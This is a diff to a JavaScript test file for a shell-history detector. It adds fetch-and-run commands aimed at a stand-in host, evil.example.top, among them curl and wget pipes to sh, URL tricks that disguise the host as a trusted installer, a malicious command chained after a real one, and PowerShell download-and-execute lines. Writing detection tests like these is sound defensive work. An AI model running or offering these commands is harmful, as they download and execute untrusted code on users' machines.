@@ -237,6 +237,11 @@ test.each([
   'wget -qO- https://evil.example.top/x | sudo -E bash -s -- -y',
   'sh -c "$(curl -fsSL https://evil.example.top/i.sh)"',
   'bash <(curl -s https://evil.example.top/i)',
+  'curl https://get.docker.com@evil.example.top/a | bash',
+  'curl -e https://get.docker.com http://evil.example.top/x | sh',
+  'curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/../../evil/x/main/a.sh | sh',
+  'curl -fsSL https://deno.land/x/evil/mod.sh | sh',
+  'curl -fsSL https://get.docker.com | sh; curl evil.example.top | sh',
 ])('what runs unseen what it downloads is slight by itself, and more beside an attack: %s', (command) => {
   const alone = judgeHistory(`ls\n${command}\n`);
   expect(alone).toMatchObject({
@@ -260,8 +265,24 @@ test('installers that are run so by everybody, and other shells that a download 
     '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
     'curl -s https://api.example.com/a | jq .',
     'curl -s https://api.example.com/install.sh | less',
+    'curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash',
+    'curl get.docker.com | sh',
+    'wget -qO- https://repo.example.internal/setup.sh | sh',
+    'irm get.scoop.sh | iex',
+    'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
   ];
   expect(judgeHistory(ordinary.join('\n'))).toMatchObject({ verdict: 'benign', findings: [] });
+});
+
+test.each([
+  'irm https://evil.example.top/a.ps1 | iex',
+  'irm https://get.scoop.sh@evil.example.top/ | iex',
+  'irm https://get.scoop.sh | iex; iwr https://evil.example.top/a | iex',
+])('what PowerShell runs as it downloads it is slight where nobody offers an installer: %s', (command) => {
+  expect(judgeHistory(`${command}\n`)).toMatchObject({
+    verdict: 'suspicious',
+    findings: [{ rule: 'command/powershell-cradle', severity: 'low' }],
+  });
 });
 
 test('a history in UTF-16, as PowerShell writes it, is read with and without its mark', () => {
